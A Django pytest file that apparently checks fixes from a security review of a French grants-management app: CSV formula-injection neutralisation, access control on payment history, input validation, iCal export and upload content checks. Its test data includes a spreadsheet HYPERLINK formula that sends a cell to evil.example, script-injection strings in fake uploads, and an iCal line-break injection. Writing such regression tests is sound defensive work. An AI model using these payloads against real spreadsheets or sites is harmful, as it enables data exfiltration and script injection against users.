"""Exports that cannot execute and a history that shows no more than the pages (security review M1, M4)."""

import csv
import io
from datetime import date

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from icalendar import Calendar

from apps.network import services
from apps.network.models import Grant, Meeting

pytestmark = pytest.mark.django_db
NOW = "2026-11-05T09:30:00+01:00"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


@pytest.mark.parametrize("name", ["network:grants_csv", "network:payments_csv"])
def test_finance_exports_neutralise_a_structure_named_as_a_formula(client, signed_41, ml_blaisois, region_admin, name):
    ml_blaisois.name = HYPERLINK
    ml_blaisois.siret = "-1+1"
    ml_blaisois.save()
    client.force_login(region_admin)
    text = client.get(reverse(name)).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells and "'-1+1" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_amounts_stay_numbers_in_the_finance_export(client, signed_41, region_admin):
    client.force_login(region_admin)
    text = client.get(reverse("network:grants_csv")).content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row[6:9] == ["10,01", "10,01", "20,02"]


def test_a_signatory_that_is_not_the_beneficiary_sees_no_grant_in_the_history(
    client, signed_41, cio_member, region_admin, ml_blaisois
):
    grant = Grant.objects.get(convention=signed_41)
    payment = grant.payments.first()
    payment.reference = "MANDAT-2027-00042"
    payment.paid_on = date(2026, 12, 1)
    payment.save()
    client.force_login(cio_member)
    assert client.get(reverse("network:grant", args=[grant.pk])).status_code == 403
    html = client.get(reverse("network:convention", args=[signed_41.pk])).content.decode()
    assert "MANDAT-2027-00042" not in html
    assert "versé le" not in html and "forfait" not in html.lower()
    client.force_login(region_admin)
    html = client.get(reverse("network:convention", args=[signed_41.pk])).content.decode()
    assert "MANDAT-2027-00042" in html


# Bad input never 500s (review L1, L6)


@pytest.mark.parametrize(
    "url",
    [
        "/reseau/conventions/?annee=²",
        "/reseau/subventions/?annee=²",
        "/reseau/subventions/export.csv?annee=²",
        "/reseau/subventions/export.csv?annee=99999999999999999999",
        "/api/v1/network/conventions/?year=²",
    ],
)
def test_a_malformed_year_is_ignored(client, signed_41, region_admin, url):
    client.force_login(region_admin)
    assert client.get(url).status_code == 200


def _meeting_data(**changes):
    data = {"title": "Comité", "day": "2027-03-12", "start_time": "09:30", "end_time": "12:00", "place": "Blois"}
    return data | changes


@pytest.mark.parametrize(
    "day, error",
    [
        ("0001-01-01", "Date : la date ne peut pas précéder l&#x27;année 2014."),
        ("9999-12-31", "Date : la date ne peut pas dépasser l&#x27;année"),
    ],
)
def test_a_meeting_dated_out_of_range_is_refused(client, coordinator_41, signed_41, loir_et_cher, day, error):
    committee = services.local_committee(loir_et_cher)
    client.force_login(coordinator_41)
    response = client.post(reverse("network:meeting_create", args=[committee.pk]), _meeting_data(day=day))
    assert response.status_code == 200 and error in response.content.decode()
    assert not Meeting.objects.exists()


def test_a_meeting_title_with_a_line_break_still_exports(client, coordinator_41, signed_41, loir_et_cher):
    committee = services.local_committee(loir_et_cher)
    meeting = Meeting.objects.create(
        committee=committee, title="Comité\r\nEND:VCALENDAR", starts_at="2027-03-12T09:30:00+01:00"
    )
    client.force_login(coordinator_41)
    for url in (
        reverse("network:meeting_ics", args=[meeting.pk]),
        reverse("network:committee_ics", args=[committee.pk]),
    ):
        response = client.get(url)
        assert response.status_code == 200
        assert len(Calendar.from_ical(response.content).walk("VEVENT")) == 1


PDF = b"%PDF-1.4\n%test\n"
FAKES = [
    ("page.html.pdf", b"<html><script>alert(1)</script></html>"),
    ("X.PDF", b"MZ\x90\x00 not a pdf"),
    ("photo.png", b"<svg onload=alert(1)>"),
    ("note.docx", b"%PDF-1.4 a pdf named docx"),
]


@pytest.mark.parametrize("name, content", FAKES)
def test_an_upload_whose_content_is_not_its_extension_is_refused(
    client, coordinator_41, signed_41, loir_et_cher, name, content
):
    meeting = Meeting.objects.create(committee=services.local_committee(loir_et_cher), title="C", starts_at=NOW)
    client.force_login(coordinator_41)
    upload = SimpleUploadedFile(name, content)
    response = client.post(reverse("network:meeting_report", args=[meeting.pk]), {"minutes_file": upload})
    assert response.status_code == 200 and "ne correspond pas à son extension" in response.content.decode()
    meeting.refresh_from_db()
    assert not meeting.minutes_file


def test_a_replaced_document_leaves_the_storage(
    client, coordinator_41, signed_41, loir_et_cher, django_capture_on_commit_callbacks
):
    meeting = Meeting.objects.create(committee=services.local_committee(loir_et_cher), title="C", starts_at=NOW)
    client.force_login(coordinator_41)
    url = reverse("network:meeting_report", args=[meeting.pk])
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(url, {"minutes_file": SimpleUploadedFile("cr.pdf", PDF)}).status_code == 302
        meeting.refresh_from_db()
        first = meeting.minutes_file.name
        assert default_storage.exists(first)
        assert client.post(url, {"minutes_file": SimpleUploadedFile("cr.pdf", PDF + b"v2")}).status_code == 302
    meeting.refresh_from_db()
    assert meeting.minutes_file.name != first and default_storage.exists(meeting.minutes_file.name)
    assert not default_storage.exists(first)


@pytest.mark.parametrize("amount", ["99999999999999999999", "1000000000,00"])
def test_an_amount_beyond_a_billion_is_refused(client, signed_41, coordinator_41, amount):
    grant = Grant.objects.get(convention=signed_41)
    client.force_login(coordinator_41)
    response = client.post(
        reverse("network:balance_request", args=[grant.pk]),
        {"requested_on": "2026-12-01", "spent_cents": amount, "spending_report": SimpleUploadedFile("d.pdf", PDF)},
    )
    assert response.status_code == 200 and "dépasse un milliard" in response.content.decode()
